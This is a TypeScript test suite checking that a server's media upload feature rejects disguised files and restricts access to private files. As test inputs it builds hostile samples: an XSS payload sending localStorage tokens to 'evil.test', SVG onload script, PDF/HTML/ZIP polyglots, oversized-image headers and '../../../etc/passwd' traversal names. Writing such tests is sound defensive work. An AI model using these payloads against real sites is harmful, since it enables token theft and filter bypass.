import { crc32 } from 'node:zlib'
import sharp from 'sharp'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import type { LibraryFile } from '#contract/media/library.ts'
import { keepMediaUses } from '#server/modules/media/index.ts'
import { fixture } from '#tests/support/fixtures.ts'
import { openOrderDesk } from '#tests/support/scenarios/service-order/order-desk.ts'
import { refusalOf, type Uploader, uploaderOf } from '#tests/support/scenarios/uploader.ts'
import { type Person, startServer, type TestServer } from '#tests/support/servers/server.ts'

let server: TestServer
let editor: Person
let uploader: Uploader

beforeAll(async () => {
  server = await startServer()
  editor = await server.person({ roles: ['moderator-docs'] })
  uploader = uploaderOf(server, editor)
})
afterAll(() => server.stop())

const script = '<script>fetch("//evil.test?"+localStorage.token)</script>'
const svg = Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">${script}</svg>`)
const frames = () =>
  sharp({ create: { width: 8, height: 16, channels: 3, background: '#123456', pageHeight: 8 } as never })

/** The header of a PNG with its dimensions, without any image data. */
function vast(side: number): Buffer {
  const header = Buffer.alloc(13)
  header.writeUInt32BE(side, 0)
  header.writeUInt32BE(side, 4)
  header.set([8, 2, 0, 0, 0], 8)
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    chunk('IHDR', header),
    chunk('IDAT', Buffer.alloc(40)),
    chunk('IEND'),
  ])
}

/** A PNG that says it has a hundred thousand frames. */
function animatedPng(): Buffer {
  const plate = fixture('plate.png')
  const control = Buffer.alloc(8)
  control.writeUInt32BE(100_000, 0)
  return Buffer.concat([plate.subarray(0, 33), chunk('acTL', control), plate.subarray(33)])
}

function chunk(type: string, data: Buffer = Buffer.alloc(0)): Buffer {
  const named = Buffer.concat([Buffer.from(type, 'latin1'), data])
  const length = Buffer.alloc(4)
  length.writeUInt32BE(data.length)
  const sum = Buffer.alloc(4)
  sum.writeUInt32BE(crc32(named))
  return Buffer.concat([length, named, sum])
}

/** The end of an empty ZIP, with a comment of some length. */
function zipEnd(comment = 0): Buffer {
  const end = Buffer.alloc(22)
  end.set(Buffer.from('PK\u0005\u0006', 'latin1'))
  end.writeUInt16LE(comment, 20)
  return end
}

/** A ZIP with one empty file. */
function smallZip(): Buffer {
  const name = Buffer.from('run.js')
  const local = Buffer.alloc(30)
  local.set(Buffer.from('PK\u0003\u0004', 'latin1'))
  local.writeUInt16LE(name.length, 26)
  const entry = Buffer.alloc(46)
  entry.set(Buffer.from('PK\u0001\u0002', 'latin1'))
  entry.writeUInt16LE(name.length, 28)
  const end = zipEnd()
  end.writeUInt16LE(1, 8)
  end.writeUInt16LE(1, 10)
  end.writeUInt32LE(entry.length + name.length, 12)
  end.writeUInt32LE(local.length + name.length, 16)
  return Buffer.concat([local, name, entry, name, end])
}

/** Programs that unpack find the ZIP and do not mind what follows it. */
function withZipBeforeEnd(): Buffer {
  const end = pdf.lastIndexOf('startxref')
  return Buffer.concat([pdf.subarray(0, end), smallZip(), Buffer.from('\n'), pdf.subarray(end)])
}

const pdf = fixture('warranty-book.pdf')

describe('an upload with a false description', () => {
  it.each<[string, string, () => Buffer | Promise<Buffer>, number]>([
    ['an SVG with script', 'logo.svg', () => svg, 415],
    ['an SVG that calls itself PNG', 'logo.png', () => svg, 415],
    ['HTML that calls itself PDF', 'book.pdf', () => Buffer.from(`<html>${script}`), 415],
    ['an image of 20,000 × 20,000', 'plate.png', () => vast(20_000), 422],
    ['an animated GIF', 'move.gif', () => frames().gif().toBuffer(), 415],
    ['an animated GIF that calls itself JPEG', 'move.jpg', () => frames().gif().toBuffer(), 415],
    ['an animated WebP that calls itself PNG', 'move.png', () => frames().webp().toBuffer(), 415],
    ['an animated PNG', 'move.png', animatedPng, 415],
    [
      'a PDF with HTML before it',
      'book.pdf',
      () => Buffer.concat([Buffer.from(`<!doctype html>${script}<!--`), pdf]),
      415,
    ],
    ['a PDF with a ZIP behind it', 'book.pdf', () => Buffer.concat([pdf, zipEnd()]), 422],
    ['a PDF with a ZIP before its end', 'book.pdf', () => withZipBeforeEnd(), 422],
    ['a PDF that is the comment of a ZIP', 'book.pdf', () => withZipInside(), 422],
  ])('%s is not taken, and nothing of it is kept', async (_, name, make, status) => {
    const content = await make()
    const begun = await uploader.begin(name, 'library', content.length)
    const location = begun.headers.get('location')
    const response = location ? await uploader.append(location, 0, content) : begun
    expect((await refusalOf(response)).status).toBe(status)
    const { rowCount } = await server.pool.query(`select from media_files where filename = $1`, [name])
    expect(rowCount).toBe(0)
  })

  it('that is PDF and script at once is served as PDF only', async () => {
    const file = await filed('kod.pdf', Buffer.from(pdf))
    const response = await fetch(new URL(file.url, server.url), {
      headers: { accept: 'text/html', 'sec-fetch-dest': 'script' },
    })
    expect(Object.fromEntries(response.headers)).toMatchObject({
      'content-type': 'application/pdf',
      'x-content-type-options': 'nosniff',
    })
  })

  it.each(['../../../etc/passwd.pdf', String.raw`..\..\win.pdf`])('loses the folder of its name: %s', async (name) => {
    const { status } = await uploader.begin(name, 'library', 10)
    expect(status).toBe(201)
    const { rows } = await server.pool.query('select filename, path from media_files order by created_at desc limit 1')
    expect(rows[0].filename).toMatch(/^[^/\\]+\.pdf$/)
    expect(rows[0].path).toMatch(/^[\da-f-]{36}\.pdf$/)
  })

  it('loses what is not allowed in a name, and is refused when the name is too long', async () => {
    const location = await uploader.begun(`x\u0000\u0002.pdf`, 'library', 10)
    const { rows } = await server.pool.query('select filename from media_files where id = $1', [
      location.split('/').at(-1),
    ])
    expect(rows).toEqual([{ filename: 'x.pdf' }])
    expect((await uploader.begin(`${'n'.repeat(300)}.pdf`, 'library', 10)).status).toBe(422)
  })

  /** The end of a ZIP in a stream of the PDF, whose comment is the rest of the file. */
  function withZipInside(): Buffer {
    const cut = pdf.lastIndexOf('startxref')
    const rest = pdf.subarray(cut)
    return Buffer.concat([pdf.subarray(0, cut), zipEnd(rest.length), rest])
  }
})

describe('a full disk', () => {
  it('is reported, and nothing of the upload stays', async () => {
    const content = fixture('photo.jpg')
    const location = await uploader.begun('photo.jpg', 'library', content.length)
    const { uploads } = server.deps.storage
    const { write } = uploads
    uploads.write = () => Promise.reject(Object.assign(new Error('write failed'), { code: 'ENOSPC' }))
    const response = await uploader.append(location, 0, content)
    uploads.write = write
    expect(await refusalOf(response)).toEqual({
      status: 507,
      message: 'The server has run out of space for files. Try again later or tell the administrator.',
    })
    const id = location.replace(/^.*\//, '')
    expect((await server.pool.query('select from media_files where id = $1', [id])).rowCount).toBe(0)
    await expect(server.deps.storage.read(id)).rejects.toThrow()
    expect((await uploader.upload('photo.jpg', 'library')).response.status).toBe(204)
  })
})

describe('many first requests for an image', () => {
  it('render it once', async () => {
    const file = await filed('photo.jpg')
    const { storage } = server.deps
    const { fileOf } = storage
    let reads = 0
    storage.fileOf = (key) => {
      reads += 1
      return fileOf(key)
    }
    const answers = await Promise.all(
      Array.from({ length: 12 }, () =>
        fetch(new URL(file.image_url ?? '', server.url), { headers: { accept: 'image/webp' } }),
      ),
    )
    storage.fileOf = fileOf
    expect(answers.map(({ status }) => status)).toEqual(Array(12).fill(200))
    expect(reads).toBe(1)
  })
})

describe('a private file without a link', () => {
  const openAs = (token: string | null, path: string) =>
    fetch(new URL(`/api/media/private?privateMedia=${encodeURIComponent(path)}`, server.url), {
      headers: token ? { authorization: `Bearer ${token}` } : {},
    })

  it('of an order opens for its partner and for staff with access, for nobody else', async () => {
    const desk = await openOrderDesk(server)
    const order = await desk.draft()
    const path = order.warranty_book?.path ?? ''
    const outside = await server.person({ roles: ['moderator-service'], restricted_partners: [desk.otherCompany] })
    const statuses = await Promise.all(
      [desk.author.token, desk.admin.token, desk.stranger.token, outside.token, editor.token, null].map(
        async (token) => (await openAs(token, path)).status,
      ),
    )
    expect(statuses).toEqual([200, 200, 404, 404, 404, 401])
    await desk.author.call('partnerzone.service-order.service-orders.destroy', { path: { service_order: order.id } })
    expect((await openAs(desk.author.token, path)).status).toBe(404)
  })

  it('of the library opens for staff of the library, not for partners who see no record with it', async () => {
    const file = await filed('instrukcja.pdf', pdf)
    await keepMediaUses(server.db, { entity: 'dictionary.provinces', entity_id: 1, field: 'file', ids: [file.id] })
    const partner = await server.person({ roles: ['partner'], partners: [await server.partner()] })
    const reader = await server.person({ roles: ['moderator'] })
    const statuses = await Promise.all(
      [reader, partner].map(async ({ token }) => (await openAs(token, file.path)).status),
    )
    expect(statuses).toEqual([200, 404])
  })

  it.each(['nowhere.pdf', '../../config', 'x\u0000', `${'y'.repeat(400)}.pdf`])('%j is not there', async (path) => {
    expect((await openAs(editor.token, path)).status).toBe(path.includes('\u0000') ? 422 : 404)
  })
})

async function filed(name: string, content = fixture(name)): Promise<LibraryFile> {
  const { location } = await uploader.upload(name, 'library', content)
  const files = [location.replace(/^.*\//, '')]
  const directory_id = (await editor.call('media.media.tree')).body.results[0]?.id ?? 0
  return (await editor.call('media.media.store', { body: { directory_id, files } })).body.results[0] as LibraryFile
}
